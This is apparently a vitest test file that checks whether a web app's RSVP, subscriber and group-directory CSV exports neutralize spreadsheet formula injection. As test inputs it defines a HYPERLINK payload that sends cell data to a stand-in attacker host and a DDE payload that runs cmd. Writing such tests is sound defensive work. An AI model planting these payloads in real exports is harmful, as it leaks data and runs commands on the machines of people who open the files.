import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEventAs } from '../../src/features/events/test-support.ts';
import { parseGroupsCsv } from '../../src/features/groups/csv.ts';
import { applyImport, planImport } from '../../src/features/groups/import.ts';
import { neutralizeFormula, restoreFormulaCell, writeCsv } from '../../src/platform/csv.ts';
import { createTestContext, type TestContext } from '../support/harness.ts';

// What a hostile visitor or organizer types where an export will carry it into a spreadsheet.
const LINK = '=HYPERLINK("https://evil.example/?x="&A2,"Click")';
const DDE = "-2+3+cmd|' /C calc'!A0";

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext({ start: new Date('2027-02-20T12:00:00Z') });
});
afterAll(() => ctx.close());

const rowsOf = (text: string) => parse(text, { columns: true }) as Record<string, string>[];

describe('CSV cells that a spreadsheet would run as formulas', () => {
  it('are written as text with a leading apostrophe; numbers stay numbers', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(neutralizeFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(neutralizeFormula('Plain name')).toBe('Plain name');
    expect(neutralizeFormula("O'Brien")).toBe("O'Brien");
    expect(writeCsv([[LINK, -3, 4, '-3', null]])).toBe(
      `"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click"")",-3,4,'-3,\n`,
    );
    expect(restoreFormulaCell("'=SUM(A1)")).toBe('=SUM(A1)');
    expect(restoreFormulaCell("'quoted")).toBe("'quoted");
  });

  it('in the RSVP export', async () => {
    const editor = await ctx.signedIn({ roles: ['editor'] });
    const event = await createEventAs(ctx.services, editor.actor);
    const occurrence = await ctx.services.db
      .selectFrom('event_occurrences')
      .select('id')
      .where('event_id', '=', event.id)
      .executeTakeFirstOrThrow();
    const rsvp = await ctx.client().postForm(`/events/${event.id}/rsvp`, {
      occurrence: String(occurrence.id),
      name: LINK,
      email: 'formula@example.org',
      guests: '2',
    });
    expect(rsvp.status).toBe(303);
    const csv = await (await editor.get(`/events/${event.id}/rsvps.csv`)).text();
    const [row] = rowsOf(csv);
    expect(row).toMatchObject({ name: `'${LINK}`, email: 'formula@example.org', guests: '2' });
    expect(csv).toContain(',2,going,');
  });

  it('in the subscriber export', async () => {
    const editor = await ctx.signedIn({ roles: ['editor'] });
    const form = new FormData();
    const upload = `email,name,town\ndde@example.org,"${DDE}",Salem\n`;
    form.set('file', new File([upload], 'list.csv', { type: 'text/csv' }));
    form.set('confirmed', 'yes');
    expect((await editor.postMultipart('/admin/newsletter/subscribers/import', form)).status).toBe(
      200,
    );
    const csv = await (await editor.get('/admin/newsletter/subscribers.csv')).text();
    const row = rowsOf(csv).find((r) => r.email === 'dde@example.org')!;
    expect(row.name).toBe(`'${DDE}`);
    expect(row.town).toBe('Salem');
  });

  it('in the group directory export (/groups.csv), which still imports back unchanged', async () => {
    const source = [
      'name,towns,website,email,description,issue_areas',
      `"@Formula Friends",Salem,,,"${LINK.replace(/"/g, '""')}",`,
      'Dash Group,Lynn,,,"- We meet monthly",',
    ].join('\n');
    const parsed = parseGroupsCsv(source);
    expect(parsed.errors).toEqual([]);
    await applyImport(ctx.services, null, parsed.rows, { source: 'test' });

    const csv = await (await ctx.client().get('/groups.csv')).text();
    const rows = rowsOf(csv);
    expect(rows.find((r) => r.slug === 'formula-friends')).toMatchObject({
      name: "'@Formula Friends",
      description: `'${LINK}`,
    });
    expect(rows.find((r) => r.slug === 'dash-group')?.description).toBe("'- We meet monthly");

    const again = parseGroupsCsv(csv);
    expect(again.errors).toEqual([]);
    const plan = await planImport(ctx.services.db, again.rows);
    expect(plan.filter((p) => p.action !== 'unchanged')).toEqual([]);
    expect(again.rows.find((r) => r.name === '@Formula Friends')?.description).toBe(LINK);
  });
});
